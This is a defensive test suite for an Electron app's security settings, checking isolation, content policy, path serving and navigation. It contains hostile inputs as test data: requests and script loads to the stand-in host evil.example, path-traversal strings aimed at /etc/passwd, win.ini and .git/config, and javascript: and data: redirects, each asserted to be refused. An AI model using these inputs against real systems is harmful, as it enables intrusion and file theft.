// Electron's security checklist, as far as Pano's shell answers it, tried from inside the real pages: what a page sees, what it
// may load, where it may go. (Fuses and signing belong to the packaged program: tests/electron/desktop/builder.test.ts.)
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Shell } from '../standin/launch-shell.ts';
import { callFrom, createHome, type DesktopHome, inPage, startWithKiosk } from './desktop-app.ts';

let home: DesktopHome;
let shell: Shell;
let studio: Page;
let player: Page;

beforeAll(async () => {
  home = await createHome();
  ({ shell, studio, player } = await startWithKiosk(home));
});
afterAll(() => home.remove());

const pages = () => [['studio', studio] as const, ['player', player] as const];
const addresses = () =>
  shell.evaluate(
    ({ BrowserWindow }) =>
      BrowserWindow.getAllWindows()
        .map(({ webContents }) => webContents.getURL().split(/[?#]/)[0])
        .sort(),
    null,
  );
const own = ['app://bundle/player/', 'app://bundle/studio/'];

describe('a page', () => {
  it('sees of Electron and Node only the bridge’s two functions, frozen', async () => {
    for (const [, page] of pages()) {
      const seen = await page.evaluate(() => {
        const names = ['require', 'process', 'module', 'exports', 'Buffer', 'global', 'ipcRenderer', 'electron', 'setImmediate'];
        return {
          leaks: names.filter((name) => name in window),
          bridge: Object.getOwnPropertyNames(window.pano).sort(),
          isFrozen: Object.isFrozen(window.pano),
          replaced: Reflect.set(window, 'pano', null),
        };
      });
      expect(seen).toEqual({ leaks: [], bridge: ['call', 'onEvent'], isFrozen: true, replaced: false });
    }
  });

  it('gets a fact without Electron’s event object', async () => {
    await studio.evaluate(() => {
      const counts: number[] = [];
      Object.assign(window, { counts });
      window.pano?.onEvent((...args: unknown[]) => void counts.push(args.length));
    });
    const call = callFrom(studio);
    const [playlist] = await call('playlists.list', {});
    if (playlist === undefined) throw new Error('the sample library has no playlist');
    await call('playlists.save', { document: playlist.document, baseRevision: playlist.revision });
    await studio.waitForFunction(() => (window as unknown as { counts: number[] }).counts.length > 0);
    expect(await studio.evaluate(() => [...new Set((window as unknown as { counts: number[] }).counts)])).toEqual([1]);
  });

  it('runs sandboxed and isolated, without webviews, dialogs, dropped files or remote code', async () => {
    type Preferences = Record<string, unknown>;
    const all = await shell.evaluate(
      ({ BrowserWindow }) =>
        BrowserWindow.getAllWindows().map(({ webContents }) => {
          const { session, preload, ...rest } = (
            webContents as unknown as { getLastWebPreferences(): Preferences }
          ).getLastWebPreferences();
          return { ...rest, hasPreload: String(preload).endsWith('preload.cjs'), hasSession: session !== undefined };
        }),
      null,
    );
    expect(all).toHaveLength(2);
    for (const preferences of all) {
      expect(preferences).toMatchObject({
        sandbox: true,
        contextIsolation: true,
        nodeIntegration: false,
        nodeIntegrationInWorker: false,
        nodeIntegrationInSubFrames: false,
        webviewTag: false,
        webSecurity: true,
        allowRunningInsecureContent: false,
        experimentalFeatures: false,
        navigateOnDragDrop: false,
        disableDialogs: true,
        spellcheck: false,
        hasPreload: true,
      });
    }
  });

  it('cannot make a webview', async () => {
    expect(await studio.evaluate(() => document.createElement('webview').constructor.name)).not.toBe('WebViewElement');
  });
});

describe('content', () => {
  it('comes with a policy that lets nothing in from outside', async () => {
    for (const path of ['/studio/', '/player/']) {
      const page = path === '/studio/' ? studio : player;
      const policy = await page.evaluate(async (address) => (await fetch(address)).headers.get('content-security-policy'), path);
      for (const rule of [
        "default-src 'none'",
        "script-src 'self'",
        "connect-src 'self'",
        "frame-src 'none'",
        "object-src 'none'",
        "base-uri 'none'",
        "form-action 'none'",
      ]) {
        expect(policy).toContain(rule);
      }
      expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|\*|https?:/);
    }
  });

  it.each([
    [
      'an inline script',
      `(() => { const s = document.createElement('script'); s.textContent = 'window.broken = 1'; document.head.append(s); return window.broken ?? 'refused'; })()`,
    ],
    ['eval', `(() => { try { return eval('1'); } catch { return 'refused'; } })()`],
    ['a request to another host', `fetch('https://evil.example/').then(() => 'sent', () => 'refused')`],
    [
      'a script from another host',
      `new Promise((done) => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; s.onload = () => done('ran'); s.onerror = () => done('refused'); document.head.append(s); })`,
    ],
    [
      'a picture from another host',
      `new Promise((done) => { const i = new Image(); i.onload = () => done('shown'); i.onerror = () => done('refused'); i.src = 'https://evil.example/x.png'; })`,
    ],
    [
      'a frame of another host',
      `new Promise((done) => { const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true }); document.body.append(f); f.onload = () => setTimeout(done, 500, 'loaded'); })`,
    ],
    [
      'a worker from a blob',
      `(() => { try { new Worker(URL.createObjectURL(new Blob(['1']))); } catch { return 'refused'; } return new Promise((done) => document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true })); })()`,
    ],
  ])('refuses %s', async (_what, code) => {
    expect(await inPage(shell, '/studio/', code)).toBe('refused');
  });

  it.each([
    '/assets/..%2f..%2f..%2fpackage.json',
    '/assets/%2e%2e/%2e%2e/package.json',
    '/assets/..%5c..%5cpackage.json',
    '/fonts/..%2f..%2fpackage.json',
    '/fonts/%00',
    '/media/%2e%2e%2flibrary.json',
    '/media/../../package.json',
    '/studio/index.html::$DATA',
    '/studio/..;/..;/package.json',
    '//etc/passwd',
    '/%2fetc%2fpasswd',
    '/C:%5cWindows%5cwin.ini',
    '/assets/',
    '/package.json',
    '/.git/config',
    '/dist/desktop/main.js',
  ])('serves nothing for %s', async (path) => {
    const [status, text] = await studio.evaluate(async (address) => {
      const response = await fetch(`${location.origin}${address}`);
      return [response.status, await response.text()] as const;
    }, path);
    expect(status).toBe(404);
    expect(text).not.toMatch(/"dependencies"|root:|\[core\]/);
  });

  it('is what its type says, and not what a page guesses', async () => {
    expect(await studio.evaluate(async () => (await fetch('/studio/')).headers.get('x-content-type-options'))).toBe('nosniff');
  });
});

describe('navigation', () => {
  it.each([
    ['another site', `location.href = 'https://evil.example/'`],
    ['plain http', `location.assign('http://127.0.0.1:1/')`],
    ['a host that begins like ours', `location.href = location.origin.replace('bundle', 'bundle.evil') + '/studio/'`],
    ['a user name that looks like ours', `location.href = 'https://bundle@evil.example/'`],
    ['a file', `location.href = 'file:///etc/passwd'`],
    ['a page in the address', `location.href = 'data:text/html,<h1>hi'`],
    ['a script in the address', `location.href = 'javascript:document.title="broken"'`],
    ['a link', `Object.assign(document.createElement('a'), { href: 'https://evil.example/' }).click()`],
    [
      'a form',
      `(() => { const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit(); })()`,
    ],
    [
      'a refresh',
      `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=https://evil.example/">')`,
    ],
    // Plain Chromium asks the person in a box of its own, which then hides the page; Electron asks our permission handler.
    ...(process.env.PANO_ELECTRON === undefined ? [] : [['another program', `location.href = 'ms-settings:'`]]),
  ])('does not go to %s', async (_where, code) => {
    await studio.evaluate(() => Object.assign(window, { stayed: true }));
    await inPage(shell, '/studio/', `(() => { ${code}; return 0; })()`).catch(() => undefined);
    await studio.waitForTimeout(150);
    expect(await studio.evaluate(() => 'stayed' in window)).toBe(true);
    expect(await addresses()).toEqual(own);
    expect(await studio.title()).not.toBe('broken');
  });

  it.each([
    ['window.open', `window.open('https://evil.example/')`],
    ['window.open of ourselves', `window.open(location.href)`],
    ['an empty window', `window.open()`],
    ['a link to a new window', `Object.assign(document.createElement('a'), { href: 'https://evil.example/', target: '_blank' })`],
  ])('opens no window by %s, and nothing outside, unless a person clicked', async (_how, code) => {
    await watchOutside();
    await inPage(
      shell,
      '/studio/',
      `(() => { const it = ${code}; if (it instanceof HTMLElement) { document.body.append(it); it.click(); it.remove(); } return it === null; })()`,
    );
    await studio.waitForTimeout(150);
    expect(await addresses()).toEqual(own);
    expect(await outside()).toEqual([]);
  });

  const watchOutside = () =>
    shell.evaluate(({ shell: system }) => {
      const outside: string[] = [];
      Object.assign(globalThis, { outside });
      Object.assign(system, { openExternal: async (url: string) => void outside.push(url) });
    }, null);
  const outside = () => shell.evaluate(() => (globalThis as unknown as { outside: string[] }).outside, null);

  /** A person's click on a link to a new window, mouse and all. */
  async function click(part: string, href: string): Promise<void> {
    const code = `(() => { const a = document.createElement('a'); a.href = ${JSON.stringify(href)}; a.target = '_blank'; a.id = 'probe';
      a.style.cssText = 'position:fixed;left:0;top:0;width:40px;height:40px;z-index:99999'; a.textContent = 'x'; document.body.append(a);
      window.clicked = false; a.addEventListener('click', () => { window.clicked = true; }); return 0; })()`;
    await inPage(shell, part, code);
    await shell.evaluate(({ BrowserWindow }, wanted) => {
      const contents = BrowserWindow.getAllWindows().find(({ webContents }) =>
        webContents.getURL().includes(wanted),
      )?.webContents;
      contents?.sendInputEvent({ type: 'mouseDown', x: 10, y: 10, button: 'left', clickCount: 1 });
      contents?.sendInputEvent({ type: 'mouseUp', x: 10, y: 10, button: 'left', clickCount: 1 });
    }, part);
    await expect.poll(() => inPage(shell, part, 'window.clicked')).toBe(true);
    await inPage(shell, part, `document.querySelector('#probe').remove()`);
    // What main does about it comes after the page's own part; a round trip lets it be over.
    await inPage(shell, part, 'new Promise((done) => setTimeout(done, 100, 0))');
  }

  it('lets a person’s click on a secure link out of the studio, into the system’s browser', async () => {
    await watchOutside();
    await click('/studio/', 'https://example.org/help');
    await expect.poll(outside).toEqual(['https://example.org/help']);
    expect(await addresses()).toEqual(own);
  });

  it.each(['http://example.org/', 'file:///etc/passwd', 'ms-settings:display', 'https://user:pass@example.org/'])(
    'does not let a click on %s out',
    async (href) => {
      await watchOutside();
      await click('/studio/', href);
      expect(await outside()).toEqual([]);
      expect(await addresses()).toEqual(own);
    },
  );

  it('lets nothing out of a kiosk, clicked or not', async () => {
    await watchOutside();
    await click('/player/', 'https://example.org/help');
    expect(await outside()).toEqual([]);
    expect(await addresses()).toEqual(own);
  });
});
